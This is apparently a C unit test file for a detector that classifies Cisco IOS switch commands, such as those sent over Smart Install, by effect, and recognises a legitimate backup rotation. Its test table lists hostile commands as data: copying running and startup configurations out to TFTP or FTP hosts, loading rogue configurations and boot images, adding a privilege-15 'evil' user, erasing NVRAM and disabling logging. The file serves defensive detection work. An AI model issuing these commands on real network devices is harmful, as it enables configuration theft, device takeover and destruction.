/* SPDX-License-Identifier: BSD-2-Clause */
#include "decode/command.h"

#include <criterion/criterion.h>

enum { EMPTY, PREP, OUT, SERVE, CONFIG, IMAGE, RUN };

struct judged {
    const char *command;
    int effect;
};

static const struct judged judged[] = {
    /* nothing */
    {"", EMPTY},
    {"   \t ", EMPTY},
    /* out of the client */
    {"copy system:running-config tftp://198.51.100.7/x", OUT},
    {"copy nvram:startup-config tftp://198.51.100.7/x", OUT},
    {"copy running-config tftp://198.51.100.7/x", OUT},
    {"copy startup-config ftp://user:secret@198.51.100.7/x", OUT},
    {"COPY RUNNING-CONFIG TFTP://198.51.100.7/x", OUT},
    {"cop run tftp:", OUT},
    {"copy run tftp:", OUT},
    {"copy   run \t tftp://198.51.100.7/x", OUT},
    {"  copy run scp://a@198.51.100.7/x", OUT},
    {"copy sta http://198.51.100.7/x", OUT},
    {"copy /noverify running-config tftp://198.51.100.7/x", OUT},
    {"copy flash:/config.text tftp://198.51.100.7/x", OUT},
    {"copy flash:config.text tftp://198.51.100.7/x", OUT},
    {"copy flash:vlan.dat tftp://198.51.100.7/x", OUT},
    {"copy flash:/private-config.text rcp://198.51.100.7/x", OUT},
    {"copy system:/running-config sftp://198.51.100.7/x", OUT},
    {"copy running-config https://[2001:db8::7]/x", OUT},
    {"\"copy running-config tftp://198.51.100.7/x\"", OUT},
    {"do copy run tftp://198.51.100.7/x", OUT},
    {"copy run xyz://198.51.100.7/x", OUT},
    {"configure tftp-server nvram:startup-config", SERVE},
    {"conf tftp-server nvram:startup-config", SERVE},
    {"tftp-server nvram:startup-config", SERVE},
    {"tftp-server system:running-config", SERVE},
    {"TFTP-Server flash:/config.text", SERVE},
    {"tftp nvram:", SERVE},
    {"show running-config | redirect tftp://198.51.100.7/x", OUT},
    {"show run | redirect ftp://198.51.100.7/x", OUT},
    {"sh run|redirect tftp://198.51.100.7/x", OUT},
    {"sh run | red tftp:", OUT},
    {"show startup-config | tee tftp://198.51.100.7/x", OUT},
    {"show configuration | append http://198.51.100.7/x", OUT},
    {"show tech-support | redirect tftp://198.51.100.7/x", OUT},
    {"do show run | redirect tftp://198.51.100.7/x", OUT},
    {"more nvram:startup-config | redirect tftp:", OUT},
    {"more system:running-config | redirect tftp://198.51.100.7/x", OUT},
    {"more flash:/config.text | redirect tftp://198.51.100.7/x", OUT},
    {"archive config", OUT},
    {"arch conf", OUT},
    {"archive tar /create tftp://198.51.100.7/x.tar flash:", OUT},
    {"write network tftp://198.51.100.7/x", OUT},
    {"wr net", OUT},
    /* into the client: configuration */
    {"copy tftp://198.51.100.7/x running-config", CONFIG},
    {"copy tftp://198.51.100.7/x run", CONFIG},
    {"copy tftp://198.51.100.7/x system:running-config", CONFIG},
    {"copy tftp://198.51.100.7/x startup-config", CONFIG},
    {"copy tftp://198.51.100.7/x nvram:startup-config", CONFIG},
    {"copy ftp://198.51.100.7/x nvram:", CONFIG},
    {"copy http://198.51.100.7/x flash:config.text", CONFIG},
    {"copy http://198.51.100.7/x flash:/config.text", CONFIG},
    {"copy tftp://198.51.100.7/config.text flash:", CONFIG},
    {"Copy tftp: Start", CONFIG},
    {"copy flash:other nvram:startup-config", CONFIG},
    {"copy flash:other running-config", CONFIG},
    {"copy flash:/evil flash:/config.text", CONFIG},
    {"copy startup-config running-config", CONFIG},
    {"configure replace tftp://198.51.100.7/x force", CONFIG},
    {"configure network", CONFIG},
    {"configure overwrite-network", CONFIG},
    {"boot config-file flash:evil", CONFIG},
    {"boot host tftp://198.51.100.7/x", CONFIG},
    /* into the client: image */
    {"copy tftp://198.51.100.7/c2960.bin flash:", IMAGE},
    {"copy tftp://198.51.100.7/c2960.bin flash:c2960.bin", IMAGE},
    {"copy ftp://198.51.100.7/x flash:/x", IMAGE},
    {"cop tftp: flash:", IMAGE},
    {"copy tftp://198.51.100.7/a.tar usbflash0:a.tar", IMAGE},
    {"archive download-sw /overwrite /reload tftp://198.51.100.7/x.tar", IMAGE},
    {"arch down tftp://198.51.100.7/x.tar", IMAGE},
    {"archive tar /xtract tftp://198.51.100.7/x.tar flash:", IMAGE},
    {"boot system flash:evil.bin", IMAGE},
    {"configure boot system tftp://198.51.100.7/x.bin", IMAGE},
    /* within the client: preparation */
    {"copy system:running-config flash:/config.text", PREP},
    {"copy nvram:startup-config flash:/config.text", PREP},
    {"copy running-config startup-config", PREP},
    {"copy run start", PREP},
    {"copy running-config flash:backup", PREP},
    {"write memory", PREP},
    {"wr", PREP},
    {"show run | redirect flash:x", PREP},
    /* runs, deletes, reconfigures, or is not known */
    {"username evil privilege 15 secret 0 x", RUN},
    {"conf username evil privilege 15", RUN},
    {"delete /force flash:/config.text", RUN},
    {"del flash:x", RUN},
    {"erase nvram:", RUN},
    {"erase startup-config", RUN},
    {"write erase", RUN},
    {"reload in 5", RUN},
    {"format flash:", RUN},
    {"configure terminal", RUN},
    {"conf t", RUN},
    {"configure memory", RUN},
    {"no logging", RUN},
    {"no vstack", RUN},
    {"do reload", RUN},
    {"do do do do do do do copy run tftp:", RUN},
    {"snmp-server community public RW", RUN},
    {"show version", RUN},
    {"show version | redirect tftp://198.51.100.7/x", RUN},
    {"more flash:/notes.txt | redirect tftp://198.51.100.7/x", RUN},
    {"tftp-server flash:c2960.bin", RUN},
    {"copy flash:c2960.bin tftp://198.51.100.7/c2960.bin", RUN},
    {"copy", RUN},
    {"copy running-config", RUN},
    {"copy tftp://198.51.100.7/x ftp://198.51.100.8/x", RUN},
    {"archive upload-sw tftp://198.51.100.7/x", RUN},
    {"write terminal", RUN},
    {"copyrunning-config tftp://198.51.100.7/x", RUN},
    {"co run tftp:", RUN},
    {"frobnicate", RUN},
    {"do", RUN},
    {"|", RUN},
    /* no keyword and no alias has such bytes: the client refuses the line */
    {"\xdf\xf0py system:running-config tftp://198.51.100.7/x", EMPTY},
    {"do caf\xc3\xa9", EMPTY},
    {"copy run tftp://198.51.100.7/caf\xc3\xa9", OUT},
    /* several lines in one slot: the gravest counts */
    {"copy run start\ncopy start tftp://198.51.100.7/x", OUT},
    {"copy run tftp://198.51.100.7/x\r\nreload", RUN},
    {"\n\n", EMPTY},
    {"copy run flash:x.bin\ncopy flash:x.bin tftp://198.51.100.7/x", OUT},
};

Test(command, each_is_judged_by_what_it_does)
{
    for (size_t i = 0; i < sizeof(judged) / sizeof(judged[0]); i++) {
        int effect = (int)smini_command_effect(smini_span_text(judged[i].command), false);
        cr_expect_eq(effect, judged[i].effect, "\"%s\" is %d, not %d", judged[i].command, effect, judged[i].effect);
    }
}

Test(command, a_file_that_was_prepared_is_a_configuration)
{
    struct smini_span copy = smini_span_text("copy flash:x.bin tftp://198.51.100.7/x");
    cr_expect_eq(smini_command_effect(copy, false), SMINI_COMMAND_EXECUTES);
    cr_expect_eq(smini_command_effect(copy, true), SMINI_COMMAND_EXFILTRATES);
    struct smini_span server = smini_span_text("tftp-server flash:x");
    cr_expect_eq(smini_command_effect(server, true), SMINI_COMMAND_SERVES);
}

#define ONE "copy tftp://192.0.2.1/v/A-0021.d7ae.fc00.REV2 flash:A-0021.d7ae.fc00.tmp"
#define TWO "copy nvram:startup-config tftp://192.0.2.1/v/A-0021.d7ae.fc00.REV2"
#define THREE "copy flash:A-0021.d7ae.fc00.tmp tftp://192.0.2.1/v/A-0021.d7ae.fc00.REV1"

static const struct {
    const char *commands[3];
    bool rotation;
} rotations[] = {
    {{ONE, TWO, THREE}, true},
    {{TWO, ONE, THREE}, false},
    {{ONE, TWO, "copy flash:A-0021.d7ae.fc00.tmp tftp://192.0.2.9/v/A-0021.d7ae.fc00.REV1"}, false},
    {{ONE, TWO, "copy flash:B-0021.d7ae.fc00.tmp tftp://192.0.2.1/v/A-0021.d7ae.fc00.REV1"}, false},
    {{ONE, "copy system:running-config tftp://192.0.2.1/v/A-0021.d7ae.fc00.REV2", THREE}, false},
    {{ONE, TWO, "copy flash:A-0021.d7ae.fc00.tmp tftp://192.0.2.1/v/A-0021.d7ae.fc00.REV2"}, false},
    {{ONE, TWO " ", THREE}, false},
    {{ONE, "COPY nvram:startup-config tftp://192.0.2.1/v/A-0021.d7ae.fc00.REV2", THREE}, false},
    {{"copy flash:/v/A-0021.d7ae.fc00.REV2 flash:A-0021.d7ae.fc00.tmp",
      "copy nvram:startup-config flash:/v/A-0021.d7ae.fc00.REV2",
      "copy flash:A-0021.d7ae.fc00.tmp flash:/v/A-0021.d7ae.fc00.REV1"}, false},
    {{"copy tftp://h/evil.REV2 flash:evil.tmp", "copy nvram:startup-config tftp://h/evil.REV2",
      "copy flash:evil.tmp tftp://h/evil.REV1"}, false},
    {{"", "", ""}, false},
    {{"copy ", "copy nvram:startup-config .REV2", "copy flash:"}, false},
};

Test(command, only_the_exact_rotation_is_a_directors_backup)
{
    for (size_t i = 0; i < sizeof(rotations) / sizeof(rotations[0]); i++) {
        struct smini_span commands[3];
        for (size_t k = 0; k < 3; k++)
            commands[k] = smini_span_text(rotations[i].commands[k]);
        cr_expect_eq(smini_command_is_rotation(commands), rotations[i].rotation, "rotation %zu", i);
    }
}

Test(command, every_beginning_of_a_command_is_judged_without_reading_on)
{
    /* Spans are never ended by NUL: a prefix must not be read past its end (the sanitizer build looks). */
    for (size_t i = 0; i < sizeof(judged) / sizeof(judged[0]); i++) {
        size_t length = strlen(judged[i].command);
        for (size_t cut = 0; cut <= length; cut++) {
            uint8_t *copy = malloc(cut + 1);
            memcpy(copy, judged[i].command, cut);
            int effect = (int)smini_command_effect(smini_span_make(copy, cut), false);
            cr_expect(effect >= EMPTY && effect <= RUN);
            free(copy);
        }
    }
}

Test(command, names_the_file_it_touches)
{
    static const char *const files[][2] = {
        {"copy system:running-config flash:/config.text", "config.text"},
        {"configure tftp-server nvram:startup-config", "startup-config"},
        {"tftp-server nvram:", ""},
        {"copy run start", ""},
        {"delete /force flash:/a/b/c.bin", "c.bin"},
        {"reload", ""},
    };
    for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
        cr_expect(smini_span_equal(smini_command_file(smini_span_text(files[i][0])), smini_span_text(files[i][1])),
                  "%s", files[i][0]);
}

Test(command, what_is_left_of_a_rotation_is_known_as_such)
{
#define BASE "tftp://192.0.2.1/vstack/SwitchA-0021.d7ae.fc00"
    static const char *const parts[] = {
        "copy " BASE ".REV2 flash:SwitchA-0021.d7ae.fc00.tmp",
        "copy nvram:startup-config " BASE ".REV2",
        "copy flash:SwitchA-0021.d7ae.fc00.tmp " BASE ".REV1",
    };
    static const char *const others[] = {
        "copy nvram:startup-config tftp://192.0.2.9/vstack/SwitchA-0021.d7ae.fc00.REV2",
        "copy system:running-config " BASE ".REV2",
        "copy " BASE ".REV2 flash:config.text",
        "copy flash:config.text " BASE ".REV1",
        "copy flash:SwitchA-0021.d7ae.fc00.tmp",
        "",
    };
    struct smini_span two[2];
    for (size_t i = 0; i < 3; i++)
        for (size_t k = 0; k < 3; k++) {
            two[0] = smini_span_text(parts[i]);
            two[1] = smini_span_text(parts[k]);
            cr_expect(smini_command_is_rotation_part(two, 1), "part %zu", i);
            cr_expect(smini_command_is_rotation_part(two, 2), "parts %zu and %zu", i, k);
        }
    for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++) {
        two[0] = smini_span_text(parts[1]);
        two[1] = smini_span_text(others[i]);
        cr_expect(!smini_command_is_rotation_part(two, 2), "%s", others[i]);
    }
    cr_expect(!smini_command_is_rotation_part(two, 0));
}
